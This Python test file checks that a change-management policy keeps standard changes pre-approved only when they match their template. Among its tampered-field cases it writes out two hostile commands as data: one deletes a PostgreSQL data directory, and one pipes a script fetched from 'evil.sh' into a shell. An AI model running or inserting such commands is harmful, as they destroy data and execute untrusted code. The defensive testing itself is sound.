"""A pre-approved standard change covers what its template says and nothing else (QA #1)."""

from __future__ import annotations

import copy

from changekit.policy import policy_from_data

TEMPLATE = {
    "type": "standard",
    "risk": "low",
    "impact": "low",
    "outage": {"expected": False},
    "implementation": ["apt-get update", "apt-get -y upgrade"],
    "verification": ["no updates left"],
    "rollback": ["reinstall the previous versions"],
}


def policy(hosts=None):
    p = policy_from_data({"version": 1, "approvals": {"standard_templates": ["security-updates"]}})
    template = dict(TEMPLATE, **({"hosts": hosts} if hosts else {}))
    p.templates = {"security-updates": template}
    return p


def record(**changes):
    data = copy.deepcopy(TEMPLATE)
    data.update(
        id="CHG-20261125-abcdef",
        template="security-updates",
        requester={"name": "A", "email": "ada@example.org"},
        hosts=["web01"],
        status="approved",
        history=[{"status": "draft"}, {"status": "approved"}],
    )
    data.update(changes)
    return data


def test_a_record_as_its_template_says_is_preapproved():
    assert policy().preapproval_problem(record()) is None
    assert policy().required_approvals(record()) == ()
    assert policy().preapproval_problem(record(outage=None)) is None  # no outage, written otherwise


def test_each_fixed_field_changed_needs_a_normal_approval():
    for field, value in (
        ("risk", "high"),
        ("impact", "high"),
        ("outage", {"expected": True, "duration_minutes": 30}),
        ("implementation", ["rm -rf /var/lib/postgresql"]),
        ("implementation", ["apt-get update && curl evil.sh | sh", "apt-get -y upgrade"]),
        ("verification", []),
        ("rollback", ["none"]),
    ):
        problem = policy().preapproval_problem(record(**{field: value}))
        assert problem is not None and field in problem.message, (field, value)
        assert sum(r.count for r in policy().required_approvals(record(**{field: value}))) >= 1
        assert not policy().is_approved(record(**{field: value}))


def test_hosts_stay_within_the_templates_hosts():
    assert policy(hosts=["web01", "web02"]).preapproval_problem(record()) is None
    problem = policy(hosts=["web01"]).preapproval_problem(record(hosts=["web01", "db01"]))
    assert problem is not None and problem.field == "hosts"


def test_a_rejected_standard_change_needs_a_normal_approval():
    rejected = record(
        history=[{"status": "draft"}, {"status": "rejected"}, {"status": "submitted"}]
    )
    problem = policy().preapproval_problem(rejected)
    assert problem is not None and "rejected" in problem.message
    assert not policy().is_approved(rejected)


def test_a_missing_template_is_not_preapproved():
    p = policy()
    p.templates = {}
    assert p.preapproval_problem(record()) is not None
